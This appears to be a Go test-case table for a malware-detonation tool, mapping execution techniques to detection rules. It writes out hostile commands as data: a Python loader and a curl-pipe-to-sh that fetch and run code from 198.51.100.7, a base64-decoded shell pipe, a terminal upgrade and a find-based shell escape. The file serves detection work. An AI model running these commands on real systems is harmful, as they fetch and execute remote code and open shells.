package cast

import "github.com/detonaut/detonaut"

// dropped are the findings of a program that is written to a temporary directory under
// a name with a dot, run and deleted.
var dropped = []string{
	"defense-evasion/deletes-its-program", "defense-evasion/hidden-program", "execution/drops-and-runs", "execution/temporary-program", "execution/written-program",
}

// execution are those that run what the image does not show, or give a shell away.
func execution() []Actor {
	const loader = "exec(__import__('urllib.request').request.urlopen('http://198.51.100.7/a').read())"
	execute := func(deed, rule string) Actor { return mode("execute", deed, detonaut.Suspicious, "execution/"+rule) }
	return []Actor{
		actor("deleted-payload", detonaut.Suspicious, dropped...),
		actor("dropper", detonaut.Suspicious, dropped...).also("defense-evasion/copied-program"),
		actor("dropper-https", detonaut.Suspicious,
			"execution/drops-and-runs", "execution/runs-download", "execution/temporary-program", "execution/written-program"),
		mode("execute", "bind", detonaut.Malicious, "execution/bind-shell").shelled(),
		mode("execute", "compiled", detonaut.Clean, "execution/compiles-its-source").with("/usr/bin/gcc"),
		execute("decoded", "decoded-script").also("execution/piped-script").shelled().with("/usr/bin/base64"),
		execute("hidden", "hidden-script").shelled(),
		execute("one-liner", "server-one-liner").with("/usr/bin/python3"),
		shell("installer", "curl -fsSL http://198.51.100.7/install.sh | sh", detonaut.Suspicious, "execution/download-and-run"),
		actor("jndi", detonaut.Suspicious, "execution/jndi-lookup"),
		{
			Name: "jndi-java", Program: "jndi", Run: []string{"/usr/bin/java"},
			Word: detonaut.Suspicious, Rules: []string{"execution/jndi-lookup", "execution/remote-object"},
		},
		shell("line-decoded", "echo aWQK | base64 -d | sh", detonaut.Suspicious, "execution/encoded-command"),
		line("line-loader", "/usr/bin/python3 -c "+loader, detonaut.Suspicious, "execution/one-line-loader"),
		line("line-terminal", "/usr/bin/script -qc /bin/bash /dev/null", detonaut.Suspicious, "execution/terminal-upgrade"),
		actor("mapped", detonaut.Suspicious,
			"execution/drops-and-runs", "execution/temporary-program", "execution/written-program"),
		actor("memfd", detonaut.Suspicious, "execution/from-memory"),
		actor("rename-over", detonaut.Suspicious, "execution/written-program"),
		actor("shell", detonaut.Suspicious, "execution/server-shell").shelled(),
		actor("stager", detonaut.Suspicious,
			"command-and-control/bare-address", "command-and-control/reverse-shell", "execution/runs-download").shelled(),
		stdin("fetched", "fetched", detonaut.Suspicious, "execution/piped-script", "execution/runs-download"),
		stdin("script", "own", detonaut.Clean, "execution/piped-script"),
		line("tool-shell", "/usr/bin/find /etc -exec /bin/sh ;", detonaut.Suspicious, "execution/tool-shell").shelled(),
	}
}

// stdin is one that feeds a shell.
func stdin(name, script string, word detonaut.Word, rules ...string) Actor {
	return Actor{Name: "stdin-" + name, Program: "stdin-script", Run: app(script), Shell: true, Word: word, Rules: rules}
}
